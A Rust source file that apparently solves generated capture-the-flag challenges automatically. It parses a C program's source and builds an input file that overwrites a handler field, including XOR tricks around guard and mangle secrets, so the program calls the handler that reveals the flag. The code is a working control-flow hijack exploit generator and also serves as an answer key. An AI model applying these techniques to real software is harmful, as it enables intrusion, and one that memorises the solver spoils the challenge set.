//! Takes control of the call, from the source alone.

use crate::family::c::{Bindings, Token, bytes_after, find, number, tokens};

/// What the source says of its record and commands.
struct Reader {
    magic: Vec<u8>,
    /// Fields of the record with their places in bytes.
    fields: Vec<(String, usize)>,
    first: usize,
    hidden: usize,
    kinds: Vec<u64>,
    mask: u16,
}

/// A file that makes the program call the handler which shows the flag. Without `able`, only handlers that are
/// indexes are understood.
pub(super) fn attack(source: &str, able: bool) -> Option<Vec<u8>> {
    let source = tokens(source);
    let reader = Reader::read(&source)?;
    let has = |pattern: &str| find(&source, 0, pattern, &mut Bindings::new()).is_some();
    let code = |rest: &str| {
        let mut names = Bindings::new();
        find(&source, 0, &format!("case $c: {rest}"), &mut names)?;
        u8::try_from(number(names.get("c")?)?).ok()
    };
    let at = reader.place("_handler")?;
    let to = u64::try_from(reader.hidden).ok()?;
    let from = u64::try_from(reader.first).ok()?;
    let mut out = reader.magic.clone();
    if has("if (x.$h >= ENTRIES) return 8;") {
        if has("x.$g = guard_secret = drawn();") {
            out.push(code("if (left < 4) return 5;")?);
            out.extend(reader.offset(at)?);
            out.push(8);
        } else {
            out.push(code("len = left > 1 ? p[1] : 0;")?);
            out.push(u8::try_from(at + 8).ok()?);
            out.resize(out.len() + at, 0);
        }
        out.extend(to.to_le_bytes());
        return Some(out);
    }
    if !able {
        return None;
    }
    if !has("mangle_secret = drawn();") {
        out.push(code("if (left < 5) return 5;")?);
        out.extend(reader.offset(at)?);
        let step = i16::try_from(to).ok()? - i16::try_from(from).ok()?;
        out.extend((16 * step).to_le_bytes());
        return Some(out);
    }
    let xor = code("if (left < 11) return 5;")?;
    let mut write = |at: usize, word: u64| {
        out.push(xor);
        out.extend(reader.offset(at)?);
        out.extend(word.to_le_bytes());
        Some(())
    };
    if let Some(at) = reader.place("_kind") {
        let kind = |n: usize| reader.kinds.get(n);
        write(at, kind(reader.first)? ^ kind(reader.hidden)?)?;
    }
    // the table lies on a multiple of its size, so entries differ in bits that nothing is carried into
    write(at, 16 * (from ^ to))?;
    Some(out)
}

impl Reader {
    fn read(source: &[Token]) -> Option<Self> {
        let magic = bytes_after(source, "opening[] = {")?;
        let mut names = Bindings::new();
        find(source, 0, "static void $s(void) { char line[128];", &mut names)?;
        let shows = names.get("s")?.clone();
        let table = find(source, 0, "__attribute__((aligned(256))) = {", &mut Bindings::new())?;
        let mut rows = Vec::new();
        let mut at = table.end;
        while let Some(row) = find(source, at, "{ $call, $kind },", &mut Bindings::new()) {
            let part = source.get(row.start..row.end)?;
            rows.push((part.get(1)?.text.clone(), number(&part.get(3)?.text)?));
            at = row.end;
        }
        let hidden = rows.iter().position(|(call, _)| *call == shows)?;
        let mut names = Bindings::new();
        let first = match find(source, 0, "(uint64_t)&table[$i]", &mut names) {
            Some(_) => number(names.get("i")?)?,
            None => first_index(source)?,
        };
        let mut names = Bindings::new();
        let masked = find(source, 0, "off = (p[1] | p[2] << 8) ^ $m;", &mut names);
        let mask = masked.map_or(Some(0), |_| number(names.get("m")?)).unwrap_or(0);
        Some(Self {
            magic,
            fields: fields(source)?,
            first: usize::try_from(first).ok()?,
            hidden,
            kinds: rows.into_iter().map(|(_, kind)| kind).collect(),
            mask: u16::try_from(mask).ok()?,
        })
    }

    /// Where the field lies whose name ends so.
    fn place(&self, end: &str) -> Option<usize> {
        self.fields.iter().find(|(name, _)| name.ends_with(end)).map(|(_, at)| *at)
    }

    fn offset(&self, at: usize) -> Option<[u8; 2]> {
        Some((u16::try_from(at).ok()? ^ self.mask).to_le_bytes())
    }
}

/// The index that a record starts with.
fn first_index(source: &[Token]) -> Option<u64> {
    let handler = source.iter().position(|t| t.text.ends_with("_handler"))?;
    let name = &source.get(handler)?.text;
    let mut names = Bindings::new();
    find(source, 0, &format!("x.{name} = $i;"), &mut names)?;
    number(names.get("i")?)
}

/// The record's fields with their places, in its natural layout.
fn fields(source: &[Token]) -> Option<Vec<(String, usize)>> {
    let mut names = Bindings::new();
    let place = find(source, 0, "struct record { unsigned char $t[$n];", &mut names)?;
    let mut at = usize::try_from(number(names.get("n")?)?).ok()?.next_multiple_of(8);
    let mut out = Vec::new();
    for part in source.get(place.end..)?.chunks(3) {
        let [kind, name, _] = part else { break };
        if kind.text != "uint64_t" {
            break;
        }
        out.push((name.text.clone(), at));
        at += 8;
    }
    Some(out)
}
